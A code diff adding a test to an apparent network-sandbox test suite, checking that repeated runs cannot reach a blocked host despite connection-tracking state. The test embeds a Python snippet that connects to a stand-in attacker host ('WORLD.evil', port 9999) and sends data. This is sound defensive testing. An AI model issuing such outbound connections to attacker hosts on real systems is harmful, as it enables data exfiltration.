@@ -219,3 +219,20 @@ function commandPids(): number[] {
     return existsSync(procs) ? readFileSync(procs, 'utf8').split('\n').filter(Boolean).map(Number) : [];
   });
 }
+
+test('a later run is not told by what conntrack remembers of an earlier one', async () => {
+  // The same source port to the same place each time; the proxy resets the connection, after which conntrack keeps its entry for 10 s.
+  const connect = `import socket
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.settimeout(2); s.bind(("0.0.0.0", 41999))
+try:
+    s.connect(("${WORLD.evil}", 9999)); s.sendall(b"x"); print("answer", s.recv(10))
+except OSError as error: print(type(error).__name__)`;
+  for (const _ of [1, 2, 3]) {
+    const result = await lab.run(['/usr/bin/python3', '-c', connect]);
+    expect(reached(result, WORLD.evil)).toEqual([]);
+    expect(
+      result.log.filter(({ type, dst_port }) => type === 'tcp' && dst_port === 9999),
+      result.stdout,
+    ).toHaveLength(1);
+  }
+});
